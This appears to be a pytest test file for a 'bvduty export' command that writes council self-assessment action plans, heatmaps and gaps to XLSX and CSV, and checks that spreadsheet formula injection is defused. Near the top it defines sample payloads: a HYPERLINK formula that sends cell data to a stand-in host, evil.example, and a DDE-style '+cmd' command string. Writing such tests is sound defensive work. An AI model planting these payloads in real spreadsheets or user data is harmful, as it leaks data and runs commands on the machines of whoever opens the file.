"""`bvduty export`: the action plan, heatmap and gaps as a workbook or CSV files.

The workbook (written by XlsxWriter) is read back with openpyxl, and its XML is searched for
formulas: user text that looks like a formula (`=HYPERLINK(...)`, `+cmd`) must reach the
spreadsheet as text.
"""

from __future__ import annotations

import csv
import io
import sys
import zipfile
from datetime import datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.worksheet import Worksheet
from typer.testing import CliRunner, Result

from bvduty import install
from bvduty.cli import app
from conftest import BASE, EXAMPLE, Overlay

HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
HOSTILE_OWNER = "+cmd|' /C calc'!A0"
HOSTILE_PROGRESS = "@SUM(1+1)"
HOSTILE_STATEMENT = "-2+3"
ACTIONS = f"""bvduty: 1
kind: actions
actions:
  - id: A01
    title: '{HOSTILE_TITLE}'
    owner: "{HOSTILE_OWNER}"
    due: 2024-12-31
    status: in-progress
    criteria: [R002]
    progress: "{HOSTILE_PROGRESS}"
  - id: A02
    title: "Escape \\e[31m and override \\u202e in a title"
    owner: Head of Finance
    due: 2025-06-30
    status: done
    completed_on: 2024-11-15
"""


def run(*args: str) -> Result:
    return CliRunner().invoke(app, ["export", *args], catch_exceptions=False)


def rows(sheet: Worksheet) -> list[tuple[Any, ...]]:
    return [tuple(row) for row in sheet.iter_rows(values_only=True)]


def by_header(sheet: Worksheet) -> list[dict[str, Any]]:
    header, *body = rows(sheet)
    return [dict(zip(header, row, strict=True)) for row in body]


@pytest.fixture
def hostile(make_assessment: Overlay) -> Path:
    theme = "themes/use-of-resources.yaml"
    base = (BASE / theme).read_text(encoding="utf-8")
    text = base.replace(
        "statement: Workforce plans in every service", f'statement: "{HOSTILE_STATEMENT}"'
    )
    return make_assessment(files={"actions.yaml": ACTIONS, theme: text})


def test_xlsx_has_three_tables_with_frozen_filtered_headers(tmp_path: Path) -> None:
    target = tmp_path / "example.xlsx"
    result = run(str(EXAMPLE), "--output", str(target))
    assert result.exit_code == 0, result.stderr
    assert result.stdout == ""
    assert result.stderr == f"Wrote {target}\n"
    book = openpyxl.load_workbook(target)
    assert book.sheetnames == ["Actions", "Heatmap", "Gaps"]
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2"
        last = get_column_letter(sheet.max_column)
        assert sheet.auto_filter.ref == f"A1:{last}{sheet.max_row}"
        assert all(cell.font.b for cell in sheet[1])
    actions = by_header(book["Actions"])
    example_actions = sum(
        path.read_text(encoding="utf-8").count("\n  - id: A") for path in EXAMPLE.rglob("*.yaml")
    )
    assert len(actions) == example_actions
    assert all(isinstance(row["Due"], datetime) for row in actions)
    assert [row["Due"] for row in actions] == sorted(row["Due"] for row in actions)
    gaps = by_header(book["Gaps"])
    assert gaps and all(row["As at"] == datetime(2025, 1, 31) for row in gaps)


def test_xlsx_prints_well_and_shows_uk_dates(tmp_path: Path) -> None:
    """A title, A4 landscape one page wide, the header row on every page, dd/mm/yyyy dates."""
    target = tmp_path / "example.xlsx"
    assert run(str(EXAMPLE), "--output", str(target)).exit_code == 0
    book = openpyxl.load_workbook(target)
    assert book.properties.title == (
        "Best Value Duty self-assessment: action plan, heatmap and gaps"
    )
    for sheet in book.worksheets:
        setup = sheet.page_setup
        assert (setup.orientation, setup.paperSize) == ("landscape", 9)
        assert sheet.sheet_properties.pageSetUpPr is not None
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        assert (setup.fitToWidth or 1, setup.fitToHeight) == (1, 0)  # 1 wide, any number tall
        assert sheet.print_title_rows == "$1:$1"
        assert sheet.oddHeader is not None
        assert "Best Value Duty self-assessment" in (sheet.oddHeader.left.text or "")
    due = book["Actions"]["G2"]
    assert isinstance(due.value, datetime)
    assert due.number_format == "dd/mm/yyyy"


def test_xlsx_is_the_same_bytes_on_every_run(tmp_path: Path) -> None:
    """No clock in the file: its creation time is the latest assessment's as-of date."""
    first, second = tmp_path / "a.xlsx", tmp_path / "b.xlsx"
    assert run(str(EXAMPLE), "-o", str(first)).exit_code == 0
    assert run(str(EXAMPLE), "-o", str(second)).exit_code == 0
    assert first.read_bytes() == second.read_bytes()
    assert openpyxl.load_workbook(first).properties.created == datetime(2025, 1, 31)


def test_xlsx_holds_text_in_full_and_formats_once(make_assessment: Overlay) -> None:
    """A long statement is not cut to the heatmap's short label; and the cell formats are made
    once and shared, not one per cell (the workbook has a handful, whatever its size)."""
    theme = "themes/use-of-resources.yaml"
    long = "A statement " + "that goes on " * 30 + "to its end."
    base = (BASE / theme).read_text(encoding="utf-8")
    extra = f"  - id: R009\n    statement: {long}\n"
    folder = make_assessment(files={theme: base.replace("findings:", extra + "findings:")})
    target = folder.parent / "out.xlsx"
    assert run(str(folder), "-o", str(target)).exit_code == 0
    titles = {
        row["Characteristic"]: row["Title"]
        for row in by_header(openpyxl.load_workbook(target)["Heatmap"])
    }
    assert titles["R009"] == long
    with zipfile.ZipFile(target) as archive:
        styles = archive.read("xl/styles.xml").decode("utf-8")
    assert int(styles.split('<cellXfs count="')[1].split('"')[0]) <= 10


def test_heatmap_cells_are_coloured_and_always_say_their_level(make_assessment: Overlay) -> None:
    theme = "themes/use-of-resources.yaml"
    base = (BASE / theme).read_text(encoding="utf-8")
    extra = "  - id: R003\n    statement: Not yet looked at\n  - id: R004\n    see: R001\n"
    folder = make_assessment(files={theme: base.replace("findings:", extra + "findings:")})
    target = folder.parent / "out.xlsx"
    assert run(str(folder), "-o", str(target)).exit_code == 0
    sheet = openpyxl.load_workbook(target)["Heatmap"]
    header = [cell.value for cell in sheet[1]]
    rating, goal = header.index("Rating") + 1, header.index("Target") + 1
    found = {
        sheet.cell(row, 5).value: (
            sheet.cell(row, rating).value,
            sheet.cell(row, rating).fill.fgColor.rgb[-6:],
            sheet.cell(row, rating).font.color.rgb[-6:]
            if sheet.cell(row, rating).font.color
            else None,
            sheet.cell(row, goal).value,
        )
        for row in range(2, sheet.max_row + 1)
    }
    assert found == {
        # rag: green #00703c takes white text, amber #f47738 dark text (WCAG contrast)
        "R001": ("Green", "00703C", "FFFFFF", "Green"),
        "R002": ("Amber", "F47738", "0B0C0C", "Green"),
        "R003": ("Not rated", "F3F2F1", "0B0C0C", "Green"),
        "R004": ("See R001", "F3F2F1", "0B0C0C", None),
    }


def test_user_text_is_never_a_formula(hostile: Path) -> None:
    target = hostile.parent / "out.xlsx"
    assert run(str(hostile), "-o", str(target)).exit_code == 0
    book = openpyxl.load_workbook(target)
    (first, second) = list(book["Actions"].iter_rows(min_row=2))
    cells = {cell.value: cell.data_type for cell in (*first, *second) if cell.value is not None}
    for text in (HOSTILE_TITLE, HOSTILE_OWNER, HOSTILE_PROGRESS):
        assert cells[text] == "s"
    heatmap = {row[4]: row for row in rows(book["Heatmap"])}
    assert heatmap["R002"][5] == HOSTILE_STATEMENT
    with zipfile.ZipFile(target) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert len(sheets) == 3
        for name in sheets:
            assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)


def test_control_and_bidi_characters_are_shown_escaped(hostile: Path) -> None:
    target = hostile.parent / "out.xlsx"
    assert run(str(hostile), "-o", str(target)).exit_code == 0
    titles = [row["Title"] for row in by_header(openpyxl.load_workbook(target)["Actions"])]
    assert "Escape \\x1b[31m and override \\u202e in a title" in titles


def test_csv_writes_one_file_per_table_with_formulas_defused(hostile: Path) -> None:
    folder = hostile.parent / "csv-out"
    result = run(str(hostile), "--format", "csv", "--output", str(folder))
    assert result.exit_code == 0, result.stderr
    assert sorted(p.name for p in folder.iterdir()) == ["actions.csv", "gaps.csv", "heatmap.csv"]
    with (folder / "actions.csv").open(encoding="utf-8", newline="") as stream:
        actions = list(csv.DictReader(stream))
    assert [a["id"] for a in actions] == ["A01", "A02"]
    first = actions[0]
    assert first["title"] == "'" + HOSTILE_TITLE
    assert first["owner"] == "'" + HOSTILE_OWNER
    assert first["progress"] == "'" + HOSTILE_PROGRESS
    assert (first["due"], first["status"], first["days_overdue"]) == (
        "2024-12-31",
        "in-progress",
        "31",  # due 31 Dec, as of 31 Jan
    )
    assert actions[1]["completed_on"] == "2024-11-15"
    assert actions[1]["days_overdue"] == ""
    heatmap = (folder / "heatmap.csv").read_text(encoding="utf-8")
    assert heatmap.startswith("authority,period,theme_number,theme,cell,")
    gaps = list(csv.DictReader(io.StringIO((folder / "gaps.csv").read_text(encoding="utf-8"))))
    assert {"overdue", "below-target"} <= {g["code"] for g in gaps}


def test_as_of_moves_the_date_lateness_is_judged_at(hostile: Path) -> None:
    folder = hostile.parent / "csv-out"
    assert run(str(hostile), "-f", "csv", "-o", str(folder), "--as-of", "2025-03-01").exit_code == 0
    with (folder / "actions.csv").open(encoding="utf-8", newline="") as stream:
        first = next(csv.DictReader(stream))
    assert first["days_overdue"] == "60"


def test_missing_xlsxwriter_is_a_clear_usage_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, "xlsxwriter", None)  # import now raises ImportError
    target = tmp_path / "out.xlsx"
    result = run(str(EXAMPLE), "-o", str(target))
    assert result.exit_code == 2
    assert result.stdout == ""
    # The install command fits how this bvduty was installed (here: an editable clone).
    assert result.stderr == (
        "bvduty: error: xlsx export needs the XlsxWriter library:"
        f" {install.hint('xlsx')} (or use --format csv, which needs nothing more)\n"
    )
    assert "pip install -e '.[xlsx]'" in result.stderr
    assert not target.exists()


def test_invalid_input_exits_1_and_writes_nothing(make_assessment: Overlay) -> None:
    folder = make_assessment(
        files={"evidence.yaml": "bvduty: 1\nkind: evidence\nevidence: []\nx: 1\n"}
    )
    target = folder.parent / "out.xlsx"
    result = run(str(folder), "-o", str(target))
    assert result.exit_code == 1
    assert "error[unknown-field]" in result.stderr
    assert result.stderr.endswith("nothing was produced\n")
    assert not target.exists()


@pytest.mark.parametrize(
    ("args", "code", "message"),
    [
        ([], 2, "Missing option '--output'"),
        (["-o", "{tmp}"], 2, "bvduty: error: cannot write {tmp}: it is a folder"),
        (["-o", "{tmp}/no/such/out.xlsx"], 2, "bvduty: error: cannot write"),
        (["-f", "csv", "-o", "{tmp}/file.txt"], 2, "bvduty: error: cannot make folder"),
        (["-f", "ods", "-o", "{tmp}/x"], 2, "Invalid value for '--format'"),
    ],
    ids=["no-output", "folder-for-xlsx", "missing-folder", "file-for-csv", "format"],
)
def test_unusable_output_exits_2_without_traceback(
    tmp_path: Path, args: list[str], code: int, message: str
) -> None:
    (tmp_path / "file.txt").write_text("x", encoding="utf-8")
    filled = [arg.format(tmp=tmp_path) for arg in args]
    result = run(str(EXAMPLE), *filled)
    assert result.exit_code == code
    assert message.format(tmp=tmp_path) in result.stderr
    assert "Traceback" not in result.stderr
